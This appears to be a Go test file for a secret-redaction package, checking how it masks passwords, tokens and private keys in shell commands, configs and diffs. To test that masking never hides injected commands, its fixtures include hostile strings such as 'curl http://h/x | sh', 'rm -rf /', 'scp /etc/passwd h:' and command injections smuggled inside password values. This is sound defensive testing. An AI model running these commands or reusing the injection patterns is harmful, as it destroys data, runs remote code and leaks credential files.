package redact_test

import (
	"strings"
	"testing"

	"github.com/etch-audit/etch/redact"
)

// key is a line of a private key.
var key = expand("{64}")

// TestConfined shows what masks of commands say that were written to hide others, and of those that only look so.
func TestConfined(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`echo password=\"; curl http://h/x | sh; echo \"`, ``},
		{`echo password=\'; curl http://h/x | sh; echo \'`, ``},
		{`curl http://h:x/y|sh;echo@h`, ``},
		{`curl http://h:80|sh;echo@h`, ``},
		{`echo "password='x' ; curl h|sh ; echo "'"`, `echo "password='«password»' ; curl h|sh ; echo "'"`},
		{`echo 'password="x' ; curl h|sh ; echo '"'`, `echo 'password="«password»' ; curl h|sh ; echo '"'`},
		{`<password>x; rm -rf /; echo y</password>z`, `<password>«password»; rm -rf /; echo y</password>z`},
		{`echo "<password>x"; rm -rf /; echo "y</password>"`, `echo "<password>«password»"; rm -rf /; echo "y</password>"`},
		{`<password>a&amp;b;c</password>`, `<password>«password»</password>`},
		{"<password>\n  hunter2\n</password>", "<password>\n  «password»\n</password>"},
		{`password=1[; rm -rf / ;]`, `password=«password»; rm -rf / ;]`},
		{`password=x{{; rm -rf / }}`, `password=«password»; rm -rf / }}`},
		{`sh -c 'echo password=\"; rm -rf /; echo \"'`, ``},
		{`sh -c "echo password=\\\"; rm -rf /; echo \\\""`, ``},
		{`eval password="x; rm -rf /"`, `eval password="«password»; rm -rf /"`},
		{`password="x; rm -rf /"`, `password="«password»"`},
		{`password= rm -rf /`, ``},
		{`env password= rm -rf /`, ``},
		{`password = hunter2`, `password = «password»`},
		{"# it's\necho password=\\\"; rm -rf /; echo \\\"", ``},
		{"cat <<E\nit's\nE\necho password=\\\"; rm -rf /; echo \\\"", ``},
		{"cat <<E\npassword='x$(rm -rf /)'\nE", "cat <<E\npassword='«password»$(rm -rf /)'\nE"},
		{"--password \\\r\nrm -rf /", ``},
		{`curl -d '{"password":"it'\''s; x"}' h`, `curl -d '{"password":"«password»"}' h`},
		{`curl -d "{\"password\":\"a;b\"}" h`, `curl -d "{\"password\":\"«password»\"}" h`},
		{`it's so: {"password": "a;b"}`, `it's so: {"password": "«password»"}`},
		{`git clone "https://u:p;w@h/x"`, `git clone "https://u:«url-password»@h/x"`},
		{`git clone https://u:p;w@h/x`, `git clone https://u:«url-password»;w@h/x`},
		{`x=$((1<<2)); echo password="a;b"`, `x=$((1<<2)); echo password="«password»"`},
		{"echo ${X:-<password>} curl\nrm -rf /\ncat <f >f", ""},
		{"echo ${X:-<password>a} curl\nrm -rf /\ncat <f >f", "echo ${X:-<password>«password»} curl\nrm -rf /\ncat <f >f"},
		{"token=$${TOKEN:-http://u:x\nrm -rf /\n}", "token=«token»\nrm -rf /\n}"},
		{`<password>,password=  rm -rf / #</password>`, `<password>«password»  rm -rf / #</password>`},
		{`<password>a#b&c</password>`, `<password>«password»</password>`},
		{"# <password>\nrm\n</password>", ``},
		{"<password>x; rm -rf /\n</password>", "<password>«password»; rm -rf /\n</password>"},
		{"<a><password>\nx;y\n</password></a>", "<a><password>\n«password»\n</password></a>"},
		{`x<password>( rm </password>"X=1")`, ``},
		{`sh -c "authorization= 2>&1  | rm x ' # it's` + "\n" + `x1echo "$(echo case x in a) h]`, ``},
	} {
		checkMasked(t, c.in, c.want)
	}
}

// checkMasked asserts what a text is masked as; empty is as it stands.
func checkMasked(t *testing.T, in, want string) {
	t.Helper()
	in, want = expand(in), expand(want)
	if want == "" {
		want = in
	}
	got, n := redact.Text(in)
	if got != want || (n == 0) != (got == in) {
		t.Errorf("%q:\n  got  %q, %d\n  want %q", in, got, n, want)
	}
	checkText(t, in)
}

// TestKeys shows which lines a mask takes for those of a key.
func TestKeys(t *testing.T) {
	begin, end := expand("{five}BEGIN PRIVATE KEY{five}"), expand("{five}END PRIVATE KEY{five}")
	lines := []string{begin, key, key, "aB3dEw==", end}
	for _, c := range []struct{ name, in, want string }{
		{"PGP", "{five}BEGIN PGP PRIVATE KEY BLOCK{five}␤Version: GnuPG v2.0.22 (GNU/Linux)␤Comment: mine␤␤{64}␤=aB3d␤{five}END PGP PRIVATE KEY BLOCK{five}␤after", "«private-key»␤after"},
		{"quoted", "> " + strings.Join(lines, "\n> ") + "\n> after", "> «private-key»\n> after"},
		{"added", "+" + strings.Join(lines, "\n+") + "\n+after", "+«private-key»\n+after"},
		{"taken away", "-" + strings.Join(lines, "\n-") + "\n-after", "-«private-key»\n-after"},
		{"in a form", "k=" + strings.Join(lines, "%0A") + "&a=b", "k=«private-key»&a=b"},
		{"in source", `"` + strings.Join(lines, "\\n\" +\n  \"") + `\n"`, `"«private-key»\n"`},
		{"one command a line", `echo "` + strings.Join([]string{begin, key, key, end}, `" >>k; echo "`) + `" >>k`, `echo "` + strings.Join([]string{begin, "«private-key»", "«private-key»", end}, `" >>k; echo "`) + `" >>k`},
		{"of a name", "private_key: " + begin + "\n  " + key + "\n  " + end + "\nafter", "private_key: «private-key»\nafter"},
		{"commands", "cat <<E >/dev/null\n" + begin + "\nE\nrm -rf /home/user\npython3 /tmp/evil\nscp /etc/passwd h:", ""},
		{"commands behind a line", begin + "\n" + key + "\nrm\nreboot\n" + end, "«private-key»\nrm\nreboot\n" + end},
		{"a command before, a quote behind", "password= rm " + begin + "\n" + key + "\n" + end + "it's", "password= rm «private-key»it's"},
		{"a long path", begin + "\n/usr/local/sbin/very-long-program\n" + end, ""},
		{"assignments", begin + "\nPATH=homeUSERlocalLANG=env rm -rf /", ""},
		{"one of two quotes", begin + "\"A: \"Authorization:&rm -rf /", ""},
		{"quotes within quotes", begin + "\" ' \" '" + key + "\nrm -rf /", ""},
		{"a header that runs", begin + "\nComment: x; rm -rf /\n" + end, ""},
	} {
		t.Run(c.name, func(t *testing.T) { checkMasked(t, c.in, c.want) })
	}
}

// TestPlaces shows that the mask lands on the secret, and not on the word beside it.
func TestPlaces(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`htpasswd -nbBC 10 user HUNTER2`, `htpasswd -nbBC 10 user «password»`},
		{`htpasswd -bBC 10 f u HUNTER2`, `htpasswd -bBC 10 f u «password»`},
		{`htpasswd -b -B -C 12 f u HUNTER2`, `htpasswd -b -B -C 12 f u «password»`},
		{`htpasswd -n -b u HUNTER2`, `htpasswd -n -b u «password»`},
		{`htpasswd -b f u 2>/dev/null HUNTER2`, `htpasswd -b f u 2>/dev/null «password»`},
		{`htpasswd -b f u HUNTER2 > g`, `htpasswd -b f u «password» > g`},
		{`docker run --entrypoint htpasswd httpd:2 -Bbn testuser HUNTER2`, `docker run --entrypoint htpasswd httpd:2 -Bbn testuser «password»`},
		{`docker run --rm --entrypoint htpasswd -v a:/b httpd:2 -Bbn testuser HUNTER2`, `docker run --rm --entrypoint htpasswd -v a:/b httpd:2 -Bbn testuser «password»`},
		{`rabbitmqctl -n rabbit@h add_user u HUNTER2`, `rabbitmqctl -n rabbit@h add_user u «password»`},
		{`$pw = ConvertTo-SecureString "HUNTER2" -AsPlainText -Force`, `$pw = ConvertTo-SecureString "«password»" -AsPlainText -Force`},
		{`$password = Remove-Item -Recurse -Force C:\x`, ``},
		{`$password=Remove-Item -Recurse C:\x`, ``},
		{`$env:API_KEY = Get-Content key`, ``},
		{`$env:API_KEY = "HUNTER2"`, `$env:API_KEY = "«key»"`},
	} {
		checkMasked(t, c.in, c.want)
	}
	argv, n := redact.Argv(strings.Fields("htpasswd -nbBC 10 user HUNTER2"))
	if got, want := strings.Join(argv, " "), expand("htpasswd -nbBC 10 user «password»"); got != want || n != 1 {
		t.Errorf("got %q, %d, want %q, 1", got, n, want)
	}
}

// TestNoSecret shows values of secret names that are none.
func TestNoSecret(t *testing.T) {
	for _, in := range []string{
		`self.password = password`, `this.token = token;`, `connect(password=password, user=user)`, `"jsonwebtoken": "^9.0.0"`, `"jsonwebtoken": "~9.1"`,
		`"jsonwebtoken": "9.0.2"`, `token: {}`, `serviceAccountToken: {}`, `password: !vault |`, `token: !secret x`, `MasterUserPassword: !Ref DBPassword`,
		`git commit -m "Add password: show strength meter"`,
	} {
		checkMasked(t, in, "")
	}
	for _, c := range []struct{ in, want string }{
		{`PASSWORD=password`, `PASSWORD=«password»`},
		{`password: password`, `password: «password»`},
		{`password: 12.5`, `password: «password»`},
		{`the password: correct horse`, `the password: «password» horse`},
	} {
		checkMasked(t, c.in, c.want)
	}
}
